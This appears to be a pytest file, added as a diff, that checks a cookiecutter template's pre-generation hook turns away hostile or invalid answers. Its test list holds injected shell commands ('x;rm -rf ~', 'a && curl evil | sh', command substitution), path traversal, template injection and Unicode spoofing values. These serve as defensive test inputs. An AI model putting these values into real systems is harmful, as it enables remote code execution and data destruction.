@@ -1,0 +1,123 @@
+"""The pre-gen hook refuses hostile or invalid answers with one line on stderr, leaving nothing."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from bakery import bake_into
+from cookiecutter.exceptions import FailedHookException
+
+CYRILLIC_A = "\u0430"
+# (field, value, a word the refusal must contain)
+HOSTILE = [
+    ("package_name", 'my"pkg', "package_name"),
+    ("package_name", "my'pkg", "package_name"),
+    ("project_name", 'Evil "quoted" Name', "project_name"),
+    ("description", "line one\nline two", "LINE FEED"),
+    # Cookiecutter's rendering turns the carriage return into a line feed before the hook runs.
+    ("author_name", "Ann\rBob", "use one line"),
+    ("description", "tab\there", "CHARACTER TABULATION"),
+    ("description", "{{ 7 * 7 }}", "template syntax"),
+    ("author_name", "{% if true %}x{% endif %}", "template syntax"),
+    ("project_name", "{# comment #}x", "template syntax"),
+    ("project_slug", "../evil", "parent-directory"),
+    ("package_name", "../evil", "parent-directory"),
+    ("project_name", "foo/bar", "project_name"),
+    ("project_name", "x;rm -rf ~", "project_name"),
+    ("project_slug", "x$(touch pwned)", "project_slug"),
+    ("package_name", "x`id`", "package_name"),
+    ("project_name", "a && curl evil | sh", "project_name"),
+    ("package_name", "class", "keyword"),
+    ("package_name", f"p{CYRILLIC_A}ckage", "CYRILLIC SMALL LETTER A"),
+    ("project_slug", f"p{CYRILLIC_A}ckage", "non-ASCII"),
+    ("package_name", "1server", "package_name"),
+    ("project_slug", "9lives", "project_slug"),
+    ("package_name", "my server", "package_name"),
+    ("project_slug", "my server", "project_slug"),
+    ("project_slug", "MyServer", "project_slug"),
+    ("package_name", "mcp", "reserved"),
+    ("package_name", "mrtr_runtime", "reserved"),
+    ("package_name", "tests", "reserved"),
+    ("package_name", "json", "standard library"),
+    ("project_slug", "pip", "clash"),
+    ("description", "C:\\Windows\\path", "backslash"),
+    ("description", "evil \u202e txt.exe", "RIGHT-TO-LEFT OVERRIDE"),
+    ("description", "", "description"),
+    ("author_name", "Doe, John", "author_name"),
+    ("author_name", "Ann <ann@example.com>", "author_name"),
+    ("author_email", "not-an-email", "author_email"),
+    ("author_email", "a@b.com\nBcc: x@y.z", "LINE FEED"),
+    ("project_name", "x" * 81, "project_name"),
+]
+
+
+def _ids() -> list[str]:
+    return [f"{index:02d}-{field}" for index, (field, _, _) in enumerate(HOSTILE)]
+
+
+@pytest.mark.parametrize(("field", "value", "reason"), HOSTILE, ids=_ids())
+def test_hostile_answer_is_refused_and_nothing_is_left(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str], field: str, value: str, reason: str
+) -> None:
+    output = tmp_path / "sandbox" / "out"
+    output.mkdir(parents=True)
+    with pytest.raises(FailedHookException):
+        bake_into(output, capfd, state_dir=tmp_path / "state", **{field: value})
+    refusals = [
+        line for line in capfd.readouterr().err.splitlines() if line.startswith("mrtr-server:")
+    ]
+    assert len(refusals) == 1, refusals
+    assert refusals[0].startswith("mrtr-server: refused: ")
+    assert reason in refusals[0]
+    # Nothing in the output directory, nor next to it ("../evil" lands one level up).
+    assert list(output.iterdir()) == []
+    assert [path.name for path in (tmp_path / "sandbox").iterdir()] == ["out"]
+
+
+def test_refusal_names_the_field_the_user_typed(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    # A bad project_name is reported as such, not as the slug derived from it.
+    output = tmp_path / "out"
+    output.mkdir()
+    with pytest.raises(FailedHookException):
+        bake_into(output, capfd, project_name="Bad;Name")
+    assert "refused: project_name 'Bad;Name'" in capfd.readouterr().err
+
+
+def test_explicit_slug_with_a_separator_leaves_only_an_empty_directory(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    # Known cookiecutter behaviour: it creates the project directory, parents included, before
+    # any hook runs, and on a refusal removes only the project directory itself. A derived slug
+    # never contains a separator (cookiecutter.json replaces them); only an explicit one can.
+    output = tmp_path / "out"
+    output.mkdir()
+    with pytest.raises(FailedHookException):
+        bake_into(output, capfd, project_slug="a/b")
+    assert "refused: project_slug" in capfd.readouterr().err
+    leftovers = sorted(path.relative_to(output) for path in output.rglob("*"))
+    assert leftovers == [Path("a")]
+    assert list((output / "a").iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "answers",
+    [
+        {"project_name": "My Server 2"},
+        {"project_name": "acme.tools_v2"},
+        {"project_slug": "ab", "package_name": "ab"},
+        {"author_name": "José Ñúñez-O'Brien"},
+        {"description": "Quotes \" and ' and $HOME and `x` are fine here"},
+        {"author_email": "first.last+tag@sub.example.org"},
+    ],
+    ids=lambda answers: next(iter(answers)),
+)
+def test_ordinary_answers_are_accepted(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str], answers: dict[str, str]
+) -> None:
+    output = tmp_path / "out"
+    output.mkdir()
+    baked = bake_into(output, capfd, **answers)
+    assert (baked.project / "pyproject.toml").is_file()
